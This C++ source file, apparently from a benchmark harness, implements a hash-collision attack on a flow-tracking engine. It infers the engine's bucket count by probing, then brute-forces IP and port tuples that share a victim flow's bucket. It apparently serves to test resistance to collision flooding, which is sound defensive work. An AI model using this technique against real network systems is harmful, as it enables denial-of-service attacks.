// colliding_tuples.cpp - what an attacker who knows the plain hash does at home: finds tuples that
// share a bucket.

#include <array>
#include <numeric>

#include "attack.h"
#include "support/bench_engine.h"
#include "zon_key_hash_funcs_inline.h"

namespace zon_bench {
namespace {

// Tells without a division whether hashes lie in one bucket of an odd number of them: the distance
// to the bucket's first hash is divided by that number, exactly, through its inverse modulo 2^32.
class bucket_test {
public:
    bucket_test(uint32_t buckets, uint32_t bucket)
        : first_(bucket), last_quotient_((UINT32_MAX - bucket) / buckets) {
        while (inverse_ * buckets != 1)
            inverse_ *= 2 - buckets * inverse_;
    }
    bool holds(uint32_t hash) const { return (hash - first_) * inverse_ <= last_quotient_; }

private:
    uint32_t first_;
    uint32_t last_quotient_;
    uint32_t inverse_ = 1;
};

uint32_t plain_hash(const zon_flow_tuple_t& tuple) {
    const std::array<uint32_t, 4> words{tuple.src_ip.u.v4_addr, tuple.src_port,
                                        tuple.dst_ip.u.v4_addr, tuple.dst_port};
    return jenkins_hashword_2006(words.data(), words.size());
}

// A plain hash and the bucket that it leads to differ by a multiple of the number of buckets.
uint32_t buckets_of_engine(zon_flow_tuple_t probe, uint32_t max_flows) {
    require(zon_init(max_flows, 0, 0, 1, 0, 1, 0) == zon_error_none, "no engine to probe");
    uint32_t buckets = 0;
    for (int i = 0; i < 64; ++i, ++probe.src_ip.u.v4_addr) {
        int bucket = 0;
        zon_flow_lookup_tamonet(&probe, &bucket);
        buckets = std::gcd(buckets, plain_hash(probe) - static_cast<uint32_t>(bucket));
    }
    require(zon_destroy() == zon_error_none, "the probed engine stays");
    return buckets;
}

// The last word of a tuple enters the hash behind the mixing of the other three.
lookup3::state mixed_but_for_last_word(const zon_flow_tuple_t& tuple) {
    const uint32_t start = 0xdeadbeefU + (4U << 2);
    lookup3::state mixed{start + tuple.src_ip.u.v4_addr, start + tuple.src_port,
                         start + tuple.dst_ip.u.v4_addr};
    mixed.mix();
    return mixed;
}

constexpr uint32_t ports_at_once = 1024;

void hashes_of_ports(const lookup3::state& mixed, uint32_t first_port,
                     std::array<uint32_t, ports_at_once>& hashes) {
    for (uint32_t at = 0; at < ports_at_once; ++at) {
        lookup3::state each{mixed.a + first_port + at, mixed.b, mixed.c};
        each.final_mix();
        hashes[at] = each.c;
    }
}

}  // namespace

std::vector<zon_flow_tuple_t> tuples_in_bucket_of(const zon_flow_tuple_t& victim,
                                                  uint32_t max_flows, size_t count) {
    const uint32_t buckets = buckets_of_engine(victim, max_flows);
    require(buckets % 2 == 1 && buckets >= max_flows, "not a number of buckets");
    const bucket_test test(buckets, plain_hash(victim) % buckets);
    std::vector<zon_flow_tuple_t> found;
    std::array<uint32_t, ports_at_once> hashes;
    zon_flow_tuple_t tuple = victim;
    tuple.src_port = 40'000;
    for (tuple.src_ip.u.v4_addr = 0x0B000000; found.size() < count; ++tuple.src_ip.u.v4_addr) {
        const lookup3::state mixed = mixed_but_for_last_word(tuple);
        for (uint32_t port = 0; port < 65'536 && found.size() < count; port += ports_at_once) {
            hashes_of_ports(mixed, port, hashes);
            for (uint32_t at = 0; at < ports_at_once && found.size() < count; ++at) {
                tuple.dst_port = static_cast<uint16_t>(port + at);
                if (test.holds(hashes[at]))
                    found.push_back(tuple);
            }
        }
    }
    return found;
}

}  // namespace zon_bench
